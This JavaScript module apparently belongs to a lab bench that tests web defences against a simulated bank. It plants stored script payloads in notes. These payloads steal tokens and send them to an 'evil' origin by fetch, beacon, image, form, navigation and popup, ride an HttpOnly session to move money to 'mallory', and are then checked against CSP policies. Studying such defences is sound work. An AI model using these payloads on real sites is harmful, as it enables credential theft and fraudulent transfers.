// @ts-check
/**
 * Stores scripts in notes at the bank, has a page of the bank show them, and looks at what arrives at the attacker's.
 *
 * What a page came to, it reports itself; what arrived stands in the attacker's own record; whether money moved, in the ledger.
 */

import { admission, cookieSetBy, pathOf } from "/static/js/exchange.js";

/** @typedef {import("/static/js/experiment/bench.js").Bench} Bench */
/** @typedef {import("/static/js/experiment/bench.js").Step} Step */
/** @typedef {import("/static/js/exchange.js").Exchange} Exchange */
/** @typedef {{ran: boolean, violations: {directive: string, blocked: string}[], left: boolean, shown: {notes: number, me: number, error: string | null} | null}} Found */

/** Where each page keeps its credential, and at which bank it is logged in.
 * @type {Record<string, {at: "session" | "jwt", keep: string}>} */
const PLACES = {
  "local-storage": { at: "jwt", keep: "local-storage" },
  "closure": { at: "jwt", keep: "closure" },
  "readable-cookie": { at: "session", keep: "cookie" },
  "http-only-cookie": { at: "session", keep: "cookie" },
};
const POLICIES = ["none", "connect-src", "default-src", "form-action", "nonce", "trusted-types"];
const TRANSFERRED_MINOR = 100;

/** The first line of every script: so that it is known to run. */
const SAYS = "parent.postMessage({ injected: true }, '*');";
/** Where the scripts of the second table send their loot: to the attacker's, under the name of the page that they run in. */
const LOOT = "const to = (page) => '{evil}/stage/' + page + '/' + document.querySelector('main').dataset.label"
  + " + '?run={run}&loot=' + localStorage.getItem('token');";
/** Ways out of a page. A popup needs a click of the visitor, which the script waits for. @type {Record<string, string>} */
const CHANNELS = {
  fetch: "fetch(to('echo'), { mode: 'no-cors' });",
  beacon: "navigator.sendBeacon(to('echo'), '');",
  image: "new Image().src = to('echo');",
  form: "const form = document.createElement('form'); form.method = 'post'; form.action = to('landed');"
    + " document.body.append(form); form.submit();",
  navigation: "location.href = to('landed');",
  popup: "window.addEventListener('click', () => { window.open(to('landed') + '#{closes}'); });",
};
/** What a session in an HttpOnly cookie is ridden with. */
const RIDE = "fetch('/transfers?run={run}', { method: 'POST', headers: { 'Content-Type': 'application/json' },\n"
  + `  body: JSON.stringify({ to: 'mallory', amount_minor: ${TRANSFERRED_MINOR}, idempotency_key: '{key}', note: '{key}' }) });`;

/** @param {Bench} bench */
export async function run(bench) {
  const mallory = (await bench.logIn("jwt", "mallory")).body.access_token;
  const post = (/** @type {string} */ mark, /** @type {string} */ markup) =>
    bench.send("jwt", "POST", "/notes", { bearer: mallory, json: { text: `${bench.run}/${mark}\n${markup}` } });
  const jwtLogin = (await bench.logIn("jwt")).exchange;

  bench.doing(bench.say("stealing"), 0.1);
  await bench.use({ "session.cookie.dangerously_script_readable": "true" });
  await theft(bench, post, ["local-storage", "closure", "readable-cookie"], jwtLogin);

  bench.doing(bench.say("riding"), 0.4);
  await bench.use({});
  await theft(bench, post, ["http-only-cookie"], jwtLogin);
}

/** @typedef {(mark: string, markup: string) => Promise<import("/static/js/experiment/bench.js").Sent>} Post */

/** The page that a step shows. @param {Bench} bench @param {string} label @param {string} mark @param {"session" | "jwt"} at
 * @param {Record<string, string>} page @param {Record<string, unknown>} [options] @returns {Step} */
const victim = (bench, label, mark, at, page, options) =>
  ({ at, do: "open-vulnerable", label, page: { note: `${bench.run}/${mark}`, ...page }, ...options });

/** Who keeps what where, stolen or not: one page for each place and side. @param {Bench} bench @param {Post} post
 * @param {string[]} rows @param {Exchange | null} jwtLogin */
async function theft(bench, post, rows, jwtLogin) {
  const sessionLogin = (await bench.logIn("session")).exchange;
  const login = JSON.parse(jwtLogin?.request.body ?? "{}");
  /** @type {Step[]} */
  const steps = [];
  for (const row of rows) {
    const { at, keep } = PLACES[row];
    if (at === "jwt") steps.push({ at, do: "put", label: `put/${row}`, key: "token", value: keep === "local-storage" ? bench.tokens.access_token : null });
    for (const { name, settings } of bench.sides) {
      const label = `theft/${row}/${name}`;
      const script = bench.inputs.script.replaceAll("{loot}", `${bench.origins.evil}/stage/echo/${label}?run=${bench.run}`);
      await post(label, `<script>${SAYS}\n${script}</script>`);
      const page = { keep, output: settings["page.output"], policy: "none" };
      steps.push(victim(bench, label, label, at, page, { until: bench.origins.evil, ...(keep === "closure" ? { login } : {}) }));
    }
  }
  const others = rows.includes("http-only-cookie") ? await rideAndChannels(bench, post, steps) : null;
  if (others === null) await bench.tab(steps);
  await arrive(bench);
  for (const row of rows) {
    for (const { name } of bench.sides) await judgeTheft(bench, row, name, secretOf(bench, row, name, sessionLogin));
  }
  await others?.();
}

/** What the attacker is after. @param {Bench} bench @param {string} row @param {string} side @param {Exchange | null} sessionLogin */
function secretOf(bench, row, side, sessionLogin) {
  if (PLACES[row].at === "session") return cookieSetBy(sessionLogin) || null;
  if (row === "local-storage") return bench.tokens.access_token ?? null;
  // The page has logged in itself: nobody else was told this token.
  const login = bench.exchanges.find((exchange) => exchange.server === "jwt" && pathOf(exchange) === "/login"
    && new URL(exchange.request.target, bench.origins.jwt).searchParams.get("page") === `theft/${row}/${side}`);
  return JSON.parse(login?.response.body ?? "{}").access_token ?? null;
}

/** @param {Bench} bench @param {string} row @param {string} side @param {string | null} secret */
async function judgeTheft(bench, row, side, secret) {
  const label = `theft/${row}/${side}`;
  /** @type {Found | null} */
  const found = bench.reported(label);
  const loots = bench.labelled(label, "evil");
  if (secret === null || !isShown(found) || found.shown?.me !== 200) return; // Nobody was logged in: nothing was there to take.
  const loot = loots.find((exchange) => carries(exchange, secret));
  if (loot !== undefined) {
    bench.observe(label, "stolen", [loot]);
    const copy = await bench.elsewhere(PLACES[row].at, secret);
    bench.observe(`replayed/${row}/${side}`, admission(copy), [loot, copy]);
  } else if (!found.ran || (row === "http-only-cookie" && loots.length > 0)) {
    // Either the script is known not to have run, or it ran, reached the attacker, and had nothing to bring. Where it could have
    // read the credential, loot without it shows nothing: it may be disguised.
    const why = found.ran ? bench.say("empty") : bench.say("text");
    bench.observe(label, "not-stolen", [bench.report(label), ...loots], why);
    bench.observe(`replayed/${row}/${side}`, "nothing-to-use", [bench.report(label), ...loots]);
  }
}

/** The session that cannot be read is ridden; and a token is carried out by every channel, under every policy: the rest of one walk.
 * @param {Bench} bench @param {Post} post @param {Step[]} steps @returns {Promise<() => Promise<void>>} What judges it. */
async function rideAndChannels(bench, post, steps) {
  for (const { name, settings } of bench.sides) {
    const label = `ridden/http-only-cookie/${name}`;
    await post(label, `<script>${SAYS}\n${RIDE.replaceAll("{run}", bench.run).replaceAll("{key}", keyOf(bench, name))}</script>`);
    const page = { output: settings["page.output"], policy: "none" };
    steps.push(victim(bench, label, label, "session", page, { until: "/me?" }));
  }
  const before = await ledger(bench);
  steps.push({ at: "jwt", do: "put", label: "put/channels", key: "token", value: bench.tokens.access_token });
  await runs(bench, post, steps);
  await channels(bench, post, steps);
  steps.push({ at: "jwt", do: "put", label: "put/away", key: "token", value: null });
  await bench.tab(steps);
  return async () => {
    const after = await ledger(bench);
    for (const { name } of bench.sides) judgeRide(bench, name, before, after);
    for (const how of ["by-the-server", "by-a-script"]) for (const policy of ["none", "nonce", "trusted-types"]) judgeRun(bench, how, policy);
    for (const channel of Object.keys(CHANNELS)) for (const policy of POLICIES) judgeChannel(bench, channel, policy);
  };
}

/** @param {Bench} bench @param {string} side */
const keyOf = (bench, side) => `${bench.run}-ridden-${side}`;

/** The bank's ledger as alice sees it. @param {Bench} bench */
async function ledger(bench) {
  const list = await bench.send("session", "GET", "/transfers", { cookies: true });
  const me = await bench.send("session", "GET", "/me", { cookies: true });
  return { readable: list.status === 200 && me.status === 200, notes: (list.body.transfers ?? []).map((/** @type {{note: string}} */ { note }) => note),
    balance: me.body.balance_minor, exchanges: [list.exchange, me.exchange] };
}

/** @typedef {Awaited<ReturnType<typeof ledger>>} Ledger */

/** @param {Bench} bench @param {string} side @param {Ledger} before @param {Ledger} after */
function judgeRide(bench, side, before, after) {
  const label = `ridden/http-only-cookie/${side}`;
  /** @type {Found | null} */
  const found = bench.reported(label);
  if (!isShown(found) || found.shown?.me !== 200 || !before.readable || !after.readable) return;
  const key = keyOf(bench, side);
  const booked = !before.notes.includes(key) && after.notes.includes(key);
  const asked = bench.exchanges.find((exchange) => exchange.server === "session" && exchange.request.method === "POST"
    && pathOf(exchange) === "/transfers" && (exchange.request.body ?? "").includes(key)) ?? null;
  const note = bench.say("balance", { before: inUnits(before.balance), after: inUnits(after.balance) });
  const exchanges = [...before.exchanges, asked, ...after.exchanges];
  if (booked && before.balance - after.balance >= TRANSFERRED_MINOR) bench.observe(label, "money-moved", exchanges, note);
  else if (!booked && !found.ran) bench.observe(label, "money-stayed", [bench.report(label), ...exchanges]);
}

/** Does a script of a stranger run at all? @param {Bench} bench @param {Post} post @param {Step[]} steps */
async function runs(bench, post, steps) {
  await post("runs/by-the-server", `<script>${SAYS}</script>`);
  await post("runs/by-a-script", inAttribute(SAYS));
  for (const [how, output] of [["by-the-server", "dangerously-raw"], ["by-a-script", "dangerously-inner-html"]]) {
    for (const policy of ["none", "nonce", "trusted-types"]) {
      const page = { keep: "local-storage", output, policy };
      steps.push(victim(bench, `runs/${how}/${policy}`, `runs/${how}`, "jwt", page, { until: "/me?" }));
    }
  }
}

/** @param {Bench} bench @param {string} how @param {string} policy */
function judgeRun(bench, how, policy) {
  const label = `runs/${how}/${policy}`;
  /** @type {Found | null} */
  const found = bench.reported(label);
  if (isShown(found)) bench.observe(label, found.ran ? "ran" : "did-not-run", [bench.report(label)]);
}

/** One note for each channel, one page for each policy. @param {Bench} bench @param {Post} post @param {Step[]} steps */
async function channels(bench, post, steps) {
  const closes = encodeURIComponent(JSON.stringify({ run: bench.run, steps: [], next: 0, child: true }));
  for (const [channel, script] of Object.entries(CHANNELS)) {
    const whole = `${SAYS} ${LOOT} ${script}`.replaceAll("{evil}", bench.origins.evil).replaceAll("{run}", bench.run).replaceAll("{closes}", closes);
    await post(`channels/${channel}`, inAttribute(whole));
    for (const policy of POLICIES) {
      const page = { keep: "local-storage", output: "dangerously-inner-html", policy };
      const options = { until: bench.origins.evil, ...(channel === "popup" ? { click: true } : {}) };
      steps.push(victim(bench, `channels/${channel}/${policy}`, `channels/${channel}`, "jwt", page, options));
    }
  }
}

/** @param {Bench} bench @param {string} channel @param {string} policy */
function judgeChannel(bench, channel, policy) {
  const label = `channels/${channel}/${policy}`;
  /** @type {Found | null} */
  const found = bench.reported(label);
  const loot = bench.labelled(label, "evil").find((exchange) => carries(exchange, bench.tokens.access_token ?? "no token"));
  if (loot !== undefined) return bench.observe(label, "leaked", [loot]);
  if (found === null) return;
  // It ran, and the browser says by which directive it refused what it tried; or it is known not to have run.
  const refused = refusedBy(bench, found);
  if (found.ran ? refused !== null : isShown(found)) bench.observe(label, "blocked", [bench.report(label)], refused);
}

/** The directive by which the browser refused what was to go to the attacker's, or the script itself.
 * @param {Bench} bench @param {Found} found */
const refusedBy = (bench, { ran, violations }) =>
  violations.find(({ blocked }) => !ran || blocked.startsWith(bench.origins.evil))?.directive ?? null;

/** The loot that is still on its way when the walk is over: asks the attacker's server until all has come that can.
 * @param {Bench} bench */
async function arrive(bench) {
  const ran = bench.exchanges.filter((exchange) => /^\/stage\/report\/(theft|channels)\//.test(pathOf(exchange)))
    .filter((exchange) => {
      const found = JSON.parse(exchange.request.body ?? "{}");
      return found.ran === true && refusedBy(bench, found) === null;
    });
  const missing = () => ran.some((exchange) => bench.labelled(pathOf(exchange).split("/").slice(3).join("/"), "evil").length === 0);
  for (let tries = 0; missing() && tries < 10; tries += 1) {
    await bench.send("evil", "GET", "/stage/echo/what-has-come");
    await bench.wait(200);
  }
}

/** Whether the page has come to its end with a note in it, or has been left for another. @param {Found | null} found @returns {found is Found} */
const isShown = (found) => found !== null && (found.shown?.notes ?? 0) > 0;

/** @param {Exchange} exchange @param {string} secret */
const carries = ({ request }, secret) => `${request.target}\n${request.body ?? ""}`.includes(secret);

/** A handler of a picture that cannot be loaded: it runs where a note becomes markup by `innerHTML`, which no script element does.
 * @param {string} script */
const inAttribute = (script) => `<img src onerror="${script.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}">`;

/** @param {number} minor */
const inUnits = (minor) => (minor / 100).toFixed(2);
